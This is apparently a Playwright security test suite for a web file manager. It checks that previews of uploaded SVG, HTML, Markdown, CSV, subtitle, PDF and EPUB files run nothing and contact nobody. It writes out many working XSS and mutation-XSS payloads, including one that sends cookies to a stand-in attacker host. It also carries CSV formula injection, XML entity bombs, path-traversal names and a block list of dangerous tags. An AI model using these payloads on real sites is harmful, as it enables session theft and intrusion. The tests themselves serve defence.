import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Locator, Page } from '@playwright/test'
import { makeBook } from './books.ts'
import { share } from './links.ts'
import { row } from './listing.ts'
import { PNG, WEBM } from './samples.ts'
import { expect, signIn, test } from './served.ts'

/**
 * Everybody's files against the person who looks at them (invariant I11): whatever is opened, in whichever viewer, nothing of it runs, nobody
 * elsewhere hears of it, and no credential is within reach. `EVIL` stands for a server of the attacker's, a real one that counts its visitors.
 */
interface Attacker {
  readonly origin: string
  /** Whoever came, by path. */
  readonly visits: string[]
  /** What the browser asked the person. */
  readonly dialogs: string[]
}

const XML_SCRIPT = `alert(1);fetch('EVIL/script')`
const SCRIPT = `alert(1);document.title='ran';try{localStorage.setItem('stolen','1')}catch{};fetch('EVIL/script?'+document.cookie)`

/** What an attacker uploads and then sends a link to (CVE-2021-37794, CVE-2023-39612, GHSA-mmpx-jh39-wrv6). */
const PAGES: Record<string, string> = {
  'script.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
  'foreign.svg': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"/><img xmlns="http://www.w3.org/1999/xhtml" src="EVIL/foreign" onerror="${SCRIPT}"/></foreignObject></svg>`,
  'outside.svg': `<?xml-stylesheet href="EVIL/style.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="EVIL/image" width="9" height="9"/><use xlink:href="EVIL/use#a"/><style>@import "EVIL/import"; svg{background:url(EVIL/css)}</style></svg>`,
  'page.html': `<script>${SCRIPT}</script><img src="EVIL/img" onerror="${SCRIPT}"><link rel="stylesheet" href="EVIL/css"><iframe src="javascript:${SCRIPT}"></iframe><form action="EVIL/form"><button autofocus onfocus="${SCRIPT}">x</button></form>`,
  'refresh.htm': `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}"><base href="EVIL/"><script src="a.js"></script>`,
  'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${SCRIPT}</script></body></html>`,
  'sheet.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><a><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</script></xsl:template></xsl:stylesheet></a>`,
  'page.mht': `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${SCRIPT}</script>`,
  'without-extension': `<!doctype html><script>${SCRIPT}</script>`,
  'picture.gif': `GIF89a/*<script>${SCRIPT}</script>*/=1;${SCRIPT}`,
  'picture.jpg': `\u00ff\u00d8\u00ff<!doctype html><script>${SCRIPT}</script>`,
  'code.js': SCRIPT,
  'movie.swf': `FWS<script>${SCRIPT}</script>`,
}

/** From the advisory of the predecessor, and what people try first. */
const MARKDOWN = [
  `<img src=x onerror="${SCRIPT}">`,
  `<script>${SCRIPT}</script>`,
  `[click](javascript:${SCRIPT})`,
  `[tab](java\tscript:alert(1))`,
  `[data](data:text/html,<script>alert(1)</script>)`,
  `[vb](vbscript:alert(1)) <a href="&#x6a;avascript:alert(1)">entity</a> <a href=" javascript:alert(1)">space</a>`,
  `![remote](EVIL/remote.png) ![scheme](//HOST/scheme.png) <img srcset="EVIL/srcset.png 1x"> <picture><source srcset="EVIL/source.png"><img></picture>`,
  `<style>@import "EVIL/import.css"; body{background:url(EVIL/style)}</style><p style="background:url(EVIL/attribute)">styled</p>`,
  `<iframe src="EVIL/frame" srcdoc="<script>alert(1)</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">`,
  `<form action="EVIL/form"><input name="password" autofocus onfocus="${SCRIPT}"><button>send</button></form>`,
  `<video src="EVIL/video" poster="EVIL/poster" autoplay onplay="${SCRIPT}"></video><audio src="EVIL/audio"></audio><link rel="stylesheet" href="EVIL/link"><base href="EVIL/"><meta http-equiv="refresh" content="0;url=EVIL/meta">`,
  `<details open ontoggle="${SCRIPT}"><summary>x</summary></details><a id="app" name="documentElement">clobber</a>`,
  '```html\n<script>alert(1)</script>\n```',
  `the end`,
].join('\n\n')

/** Markup that is read differently the second time (DOMPurify's own tests); each alone, for it swallows what follows. */
const MUTATIONS = [
  `<svg><style><img src=x onerror="${SCRIPT}"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>`,
]

/** A chapter with all that a page may be armed with; well-formed, so that it is read as it stands. */
const PAGE_IN_BOOK = `<script>${XML_SCRIPT}</script><script src="EVIL/script.js"/><p onclick="alert(1)" style="background:url(EVIL/style)">styled</p>
<img src="EVIL/image.png" onerror="alert(1)"/><img src="../../../../evil.png"/><img src="bomb.png"/><img src="x.svg"/><img srcset="EVIL/set 1x"/><img src="/api/resources/"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="EVIL/svg"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/foreign"/></foreignObject></svg>
<style>@import "EVIL/import"; body{background:url(EVIL/css)}</style><link rel="stylesheet" href="EVIL/link"/><meta http-equiv="refresh" content="0;url=EVIL/meta"/><base href="EVIL/"/>
<iframe src="EVIL/frame" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/><object data="EVIL/object"/><embed src="EVIL/embed"/><form action="EVIL/form"><input name="body" autofocus="" onfocus="alert(1)"/><button>send</button></form>
<video src="EVIL/video" poster="EVIL/poster" autoplay=""/><audio src="EVIL/audio"/><a id="body" name="documentElement" ping="EVIL/ping" href="javascript:alert(1)">run</a><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a><a href="../../../../../../etc/passwd">up</a>`

test.describe('of hostile files (A5-8)', () => {
  test(
    'opened by its own address, no kind of page runs or calls anybody (CVE-2021-37794, CVE-2023-39612, CVE-2023-41471)',
    { tag: '@whole' },
    async ({ page, served, complaints }) => {
      // What the browser says about each thing it did not do.
      complaints.foresee(/./)
      await withAttacker(page, async (attacker) => {
        for (const [name, content] of Object.entries(PAGES)) await served.write(name, armed(content, attacker))
        await signIn(page, served)
        for (const name of Object.keys(PAGES)) {
          await test.step(name, async () => {
            const address = `${served.url}/api/raw/${name}?inline=true`
            const { headers } = await headersOf(page, address)
            expect(headers['x-content-type-options']).toBe('nosniff')
            expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
            // From the listing, where the last one ended.
            await openInFrame(page, address)
            await openRaw(page, address)
            await expectHarmless(page, served.url, attacker)
          })
        }
      })
    },
  )

  test('images in the preview and the listing run no scripts (GHSA-mmpx-jh39-wrv6)', async ({ page, served, complaints }) => {
    complaints.foresee(/Failed to load resource|The policy forbade/)
    await withAttacker(page, async (attacker) => {
      for (const name of ['script.svg', 'foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg'])
        await served.write(name, armed(PAGES[name] ?? '', attacker))
      await served.write('z.png', PNG)
      await signIn(page, served, '/files/foreign.svg')
      const names = ['foreign.svg', 'outside.svg', 'picture.gif', 'picture.jpg', 'script.svg', 'z.png']
      for (const [at, name] of names.entries()) {
        await expect(page.getByRole('heading', { name, exact: true })).toBeVisible()
        // The arrow leads on once it is known what comes next.
        await expect(page.getByText(`${at + 1} of ${names.length}`)).toBeAttached()
        await page.keyboard.press('ArrowRight')
      }
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('the Markdown preview renders only text, links and images of this instance (GHSA-4wx8-5gm2-2j97, CVE-2025-52902, R15)', async ({
    page,
    served,
    complaints,
  }) => {
    // Images beside the text that are not there, and what the policy says while the text is read in a document without a window.
    complaints.foresee(/status of 404.*\/api\/(raw|public\/dl)\/|Content Security Policy directive|^The policy forbade/)
    await withAttacker(page, async (attacker) => {
      const texts = [MARKDOWN, ...MUTATIONS]
      for (const [at, text] of texts.entries()) await served.write(`md/${at}.md`, armed(`# Number ${at}\n\n${text}`, attacker))
      await signIn(page, served)
      const hash = await share(served, '/md')
      // As it is shown to oneself, and to whoever has a link.
      for (const address of [...texts.keys()].flatMap((at) => [`files/md/${at}.md?edit=false`, `share/${hash}/${at}.md`])) {
        const at = /(\d)\.md/.exec(address)?.[1] ?? ''
        await page.goto(`${served.url}/${address}`)
        await expect(page.getByRole('heading', { name: `Number ${at}` })).toBeVisible()
        expect(await leftOver(page.locator('[data-part=markdown]'))).toEqual({ tags: [], attributes: [] })
        expect(await addressesIn(page)).toEqual({ links: [], images: [] })
        for (const link of await page.locator('[data-part=markdown] a').all()) await link.dispatchEvent('click')
      }
      await page.goto(`${served.url}/files/md/0.md?edit=false`)
      await expect(page.getByText(`Image from ${new URL(attacker.origin).host} not loaded.`).first()).toBeVisible()
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('the CSV preview renders text only, without formulas or markup', async ({ page, served }) => {
    await withAttacker(page, async (attacker) => {
      const cells = [`=HYPERLINK("EVIL/formula")`, `<img src=EVIL/cell onerror=alert(1)>`, `javascript:alert(1)`]
      await served.write('sums.csv', armed(`what\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join('\n')}\n`, attacker))
      await signIn(page, served, '/files/sums.csv?edit=false')
      for (const cell of cells) await expect(page.getByRole('cell', { name: armed(cell, attacker), exact: true })).toBeVisible()
      expect(await page.locator('[data-part=csv] :is(a, img)').count()).toBe(0)
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('subtitles are rendered as text, including their tags', async ({ page, served }) => {
    await withAttacker(page, async (attacker) => {
      await served.write('film.webm', WEBM)
      const said = `<v onload=alert(1)><img src=EVIL/cue onerror=alert(1)><script>${SCRIPT}</script><b>Hello</b>`
      await served.write('film.a.srt', armed(`1\n00:00:00,000 --> 00:00:02,000\n${said}\n`, attacker))
      await served.write(
        'film.b.vtt',
        armed(`WEBVTT\n\nSTYLE\n::cue{background:url(EVIL/vtt)}\n\n00:00.000 --> 00:02.000\n${said}\n`, attacker),
      )
      await served.write(
        'film.c.ass',
        armed(`[Events]\nFormat: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:02.00,x,${said}\n`, attacker),
      )
      await signIn(page, served, '/files/film.webm')
      const video = page.locator('video')
      for (const at of [0, 1, 2]) {
        await page.getByRole('button', { name: 'Subtitles' }).click()
        await page
          .getByRole('menuitemcheckbox')
          .nth(at + 1)
          .click()
        await expect.poll(() => video.evaluate((film: HTMLVideoElement, index) => film.textTracks[index]?.cues?.length ?? 0, at)).toBe(1)
      }
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('JavaScript in a PDF reaches neither the page nor the network', { tag: '@whole' }, async ({ page, served, complaints }) => {
    complaints.foresee(/The policy forbade|Content Security Policy/)
    await withAttacker(page, async (attacker) => {
      await served.write('form.pdf', armed(pdfThatRuns(`app.alert(1);this.submitForm("EVIL/pdf");app.launchURL("EVIL/launch")`), attacker))
      await signIn(page, served, '/files/form.pdf')
      await expect(page.locator('[data-part=pdf] canvas')).toBeVisible()
      await untilQuiet(page)
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('books render only text and their own images: no scripts, no remote content, no decompression bombs (GHSA-5vpr-4fgw-f69h, R15)', async ({
    page,
    served,
    complaints,
  }) => {
    // What the policy says while a chapter is read in a document without a window.
    complaints.foresee(/The policy forbade|Content Security Policy|sandboxed/)
    await withAttacker(page, async (attacker) => {
      const chapters = [PAGE_IN_BOOK, ...MUTATIONS, `<?xml version="1.0"?><html><body><p>malformed <b>${PAGE_IN_BOOK}`].map(
        (body) => `${body}<p>the end</p>`,
      )
      const pictures = [
        { name: 'OPS/text/x.svg', text: armed(PAGES['script.svg'] ?? '', attacker) },
        { name: '../../evil.png', text: 'x' },
        { name: 'OPS/text/bomb.png', text: Buffer.alloc(30 * 1024 * 1024) },
      ]
      await served.write(
        'a.epub',
        makeBook(
          chapters.map((chapter) => armed(chapter, attacker)),
          { extra: pictures, title: armed('&lt;img src="EVIL/title" onerror="alert(1)"/&gt;', attacker) },
        ),
      )
      await signIn(page, served, '/files/a.epub')
      for (const at of chapters.keys()) {
        const book = page.locator('[data-part=book]').frameLocator('iframe')
        await expect(page.getByText(`Chapter ${at + 1} of ${chapters.length}`)).toBeVisible()
        await expect(page.locator('[data-part=book] iframe')).toHaveAttribute('data-state', 'shown')
        if (at === 0) await expect(book.getByText('the end')).toBeAttached()
        expect(await leftOver(book.locator('body'))).toEqual({ tags: [], attributes: [] })
        for (const link of await book.locator('a').all()) await link.dispatchEvent('click')
        if (at < chapters.length - 1) await page.getByRole('button', { name: 'Next chapter' }).click()
      }
      await untilQuiet(page)
      expect(page.context().pages().length).toBeGreaterThan(0)
      await expectHarmless(page, served.url, attacker)
      const laughs =
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "EVIL/entity">]><package><metadata><title>&b;&c;</title></metadata></package>'
      for (const pack of [laughs, '<package>', '', '<html><script>alert(1)</script></html>']) {
        await served.write('b.epub', makeBook(['x'], { pack: armed(pack, attacker) }))
        await page.goto(`${served.url}/files/b.epub`)
        await expect(page.getByText('This file can’t be shown here.')).toBeVisible()
      }
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('an unknown file opened as text is rendered as text', async ({ page, served }) => {
    await withAttacker(page, async (attacker) => {
      await served.write('x.bin', Buffer.concat([Buffer.from([0xe9, 0xe8]), Buffer.from(armed(PAGES['page.html'] ?? '', attacker))]))
      await signIn(page, served, '/files/x.bin')
      await page.getByRole('button', { name: 'Open as text' }).click()
      await expect(page.getByRole('textbox', { name: 'x.bin' })).toContainText('<script>')
      await expect(page.getByText('Read only')).toBeVisible()
      await expectHarmless(page, served.url, attacker)
    })
  })

  test('names with markup or bidirectional control characters are shown as text in the preview (A4-12)', async ({ page, served }) => {
    await withAttacker(page, async (attacker) => {
      await served.write('<img src=x onerror=alert(1)>.png', PNG)
      await served.write('photo\u202Egnp.png', PNG)
      await signIn(page, served)
      await row(page, '<img src=x onerror=alert(1)>.png').dblclick()
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=alert(1)>.png')
      await expect(page.getByText('1 of 2')).toBeAttached()
      await page.keyboard.press('ArrowRight')
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('photo\\u202Egnp.png')
      await expectHarmless(page, served.url, attacker)
    })
  })
})

async function withAttacker(page: Page, walk: (attacker: Attacker) => Promise<void>): Promise<void> {
  const visits: string[] = []
  const dialogs: string[] = []
  const server = createServer((request, response) => {
    visits.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  page.context().on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  try {
    await walk({ origin: `http://127.0.0.1:${portOf(server)}`, visits, dialogs })
  } finally {
    server.close()
  }
}

/**
 * Until the page has asked for nothing in half a second. Playwright's own `networkidle` also waits for the end of each request, of which it is not told
 * where a frame was taken away meanwhile, as those of chapters are.
 */
async function untilQuiet(page: Page): Promise<void> {
  let asked = Date.now()
  const note = (): void => void (asked = Date.now())
  page.on('request', note)
  await expect.poll(() => Date.now() - asked).toBeGreaterThan(500)
  page.off('request', note)
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port
}

function armed(content: string, { origin }: Attacker): string {
  return content.replaceAll('EVIL', origin).replaceAll('HOST', new URL(origin).host)
}

/** What does not belong in a text: whatever runs, asks, draws by itself, or has a name that is one of the page's. */
async function leftOver(sheet: Locator) {
  return sheet.evaluate((root) => {
    const all = [...root.querySelectorAll('*')]
    const bad = 'script style iframe object embed form input button svg math video audio link base meta template noscript source'.split(' ')
    const named = (one: Element, name: string) => name === 'id' && one.id.startsWith('spot-')
    return {
      tags: all.map((one) => one.tagName.toLowerCase()).filter((tag) => bad.includes(tag)),
      attributes: all.flatMap((one) =>
        one
          .getAttributeNames()
          .filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'srcset', 'poster', 'ping'].includes(name))
          .filter((name) => !named(one, name)),
      ),
    }
  })
}

/** What leads elsewhere than to our own files. */
async function addressesIn(page: Page) {
  return page.locator('[data-part=markdown]').evaluate((sheet) => {
    const all = [...sheet.querySelectorAll('*')]
    return {
      links: all.flatMap((one) => one.getAttribute('href') ?? []),
      images: all.flatMap((one) => one.getAttribute('src') ?? []).filter((src) => !/^\/api\/(raw|public\/dl)\//.test(src)),
    }
  })
}

async function headersOf(page: Page, address: string): Promise<{ headers: Record<string, string> }> {
  const answer = await page.request.get(address)
  return { headers: answer.headers() }
}

/** As the person who follows the attacker's link; what the browser saves instead of showing is as good. */
async function openRaw(page: Page, address: string): Promise<void> {
  await page.goto(address, { waitUntil: 'load' }).catch((error: unknown) => {
    if (!/Download is starting|ERR_ABORTED/.test(String(error))) throw error
  })
  expect(page.context().pages()).toHaveLength(1)
  // A document in a sandbox has no cookies to read; that there are none to read elsewhere either is the next assertion.
  expect(
    await page.evaluate(() => {
      try {
        return document.cookie
      } catch {
        return ''
      }
    }),
  ).toBe('')
}

/** As a page of ours that frames it. */
async function openInFrame(page: Page, address: string): Promise<void> {
  await expect(page.getByRole('grid')).toBeVisible()
  await page.evaluate(
    (src) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement('iframe')
        frame.src = src
        frame.onload = () => resolve()
        document.body.append(frame)
        setTimeout(resolve, 1000)
      }),
    address,
  )
}

async function expectHarmless(page: Page, origin: string, { visits, dialogs }: Attacker): Promise<void> {
  await page.goto(`${origin}/files/`)
  await expect(page.getByRole('grid')).toBeVisible()
  const reached = await page.evaluate(() => ({ stolen: localStorage.getItem('stolen'), cookie: document.cookie, title: document.title }))
  expect({ visits, dialogs, ...reached, title: reached.title.includes('ran') }).toEqual({
    visits: [],
    dialogs: [],
    stolen: null,
    cookie: '',
    title: false,
  })
}

function pdfThatRuns(script: string): string {
  return (
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>endobj\n' +
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n' +
    `4 0 obj<</S/JavaScript/JS(${script.replaceAll(/[()\\]/g, '\\$&')})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
  )
}
